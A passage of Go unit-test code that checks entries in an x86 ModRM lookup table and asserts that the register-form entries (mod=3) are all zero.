		if got := tc.tab[tc.idx]; got != tc.want {
			t.Errorf("%s (index %#02x): got %#x, want %#x", tc.name, tc.idx, got, tc.want)
		}
	}
	// mod=3 rows are register forms; the walk never consults them.
	for mrm := 0xC0; mrm < 0x100; mrm++ {
		if modrmTab[mrm] != 0 {
			t.Fatalf("modrmTab[%#02x] nonzero for a register form", mrm)
		}
	}
}
